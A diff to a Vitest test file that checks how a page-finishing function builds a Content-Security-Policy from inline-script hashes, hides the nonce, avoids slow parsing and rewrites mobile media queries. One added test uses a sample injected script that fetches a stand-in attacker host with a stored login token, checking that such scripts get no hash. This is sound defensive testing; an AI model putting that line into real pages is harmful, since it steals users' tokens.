@@ -2,26 +2,29 @@ import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
 import { contentSecurityPolicy, finishPage } from './finish-page.ts'
 
+const nonce = 'k3Jx0pQw9sVbN1mZ2aYc4d'
+const finish = (html: string, platform: 'pc' | 'mobile' = 'pc') => finishPage(html, { platform, nonce })
+
 const page = (time: number, body = '') =>
-  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js"/><title>帆域</title></head><body>${body}` +
-  `<script data-x="">$R[13]={i:"__root__#",u:${time},s:"success"}</script>` +
-  `<script type="module" async="" src="/assets/index-1.js"></script></body></html>`
+  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="${nonce}"/><meta property="csp-nonce" content="${nonce}"/><title>帆域</title></head><body>${body}` +
+  `<script nonce="${nonce}" data-x="">$R[13]={i:"__root__#",u:${time},s:"success"}</script>` +
+  `<script type="module" async="" src="/assets/index-1.js" nonce="${nonce}"></script></body></html>`
 
 const scriptsOf = (html: string) => [...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>([\s\S]*?)<\/script>/g)]
 
 test('no script competes with the first paint', () => {
-  const { html } = finishPage(page(1))
+  const { html } = finish(page(1), 'pc')
   expect(html).not.toContain('modulepreload')
   expect(html).not.toMatch(/<script[^>]*\ssrc=/)
   expect(html.indexOf('/assets/index-1.js')).toBeGreaterThan(html.indexOf('<head><script>'))
 })
 
 test('equal content gives equal bytes whenever it was rendered', () => {
-  expect(finishPage(page(1795173341239))).toEqual(finishPage(page(1795173349999)))
+  expect(finish(page(1795173341239), 'pc')).toEqual(finish(page(1795173349999), 'pc'))
 })
 
 test('the policy names the hash of every inline script and nothing unsafe', () => {
-  const { html, csp } = finishPage(page(1795173341239))
+  const { html, csp } = finish(page(1795173341239), 'pc')
   const scripts = scriptsOf(html)
   expect(scripts).toHaveLength(2)
   for (const [, text = ''] of scripts) expect(csp).toContain(createHash('sha256').update(text).digest('base64'))
@@ -30,10 +33,45 @@ test('the policy names the hash of every inline script and nothing unsafe', () =
 
 test('data blocks are no scripts', () => {
   const data = '<script type="application/ld+json">{"@type":"Organization"}</script>'
-  const { csp } = finishPage(page(1, data))
+  const { csp } = finish(page(1, data), 'pc')
   expect(csp).not.toContain(createHash('sha256').update('{"@type":"Organization"}').digest('base64'))
+})
+
+test('a script that the server did not write gets no hash, whatever it looks like', () => {
+  const foreign = 'fetch("//evil.example/"+localStorage.token)'
+  for (const attributes of ['', ' nonce=""', ' nonce="guessed"', ' data-tsr-stream-part=""']) {
+    const { html, csp } = finish(page(1, `<script${attributes}>${foreign}</script>`))
+    expect(html).toContain(foreign)
+    expect(csp).not.toContain(createHash('sha256').update(foreign).digest('base64'))
+    expect(scriptsOf(html)).toHaveLength(3)
+  }
+})
+
+test('the nonce stays here: a stored page that showed it would let everybody’s script run', () => {
+  const { html, csp } = finish(page(1))
+  expect(html + csp).not.toContain(nonce)
+  expect(html).not.toContain('csp-nonce')
+})
+
+test('many scripts that are never closed take no longer than their bytes', () => {
+  const times = [1, 4].map((factor) => {
+    const html = page(1, '<script '.repeat(20_000 * factor))
+    const begun = performance.now()
+    finish(html)
+    return performance.now() - begun
+  })
+  // A quadratic search takes sixteen times as long for four times as much: seconds here.
+  expect(Math.max(...times)).toBeLessThan(500)
 })
 
 test('without scripts only our own origin may run any', () => {
   expect(contentSecurityPolicy([])).toContain("script-src 'self';")
+})
+
+test("only a phone's page has the phone's layout at every width, in its styles and nowhere else", () => {
+  const style = '<style>@media (max-width:767px){p{color:red}}@media (min-width:768px){p{color:blue}}</style>'
+  const words = '<p>@media (max-width:767px)</p>'
+  expect(finish(page(1, style + words), 'pc').html).toContain(style + words)
+  const narrow = '<style>@media (min-width:0){p{color:red}}@media (max-width:0){p{color:blue}}</style>'
+  expect(finish(page(1, style + words), 'mobile').html).toContain(narrow + words)
 })
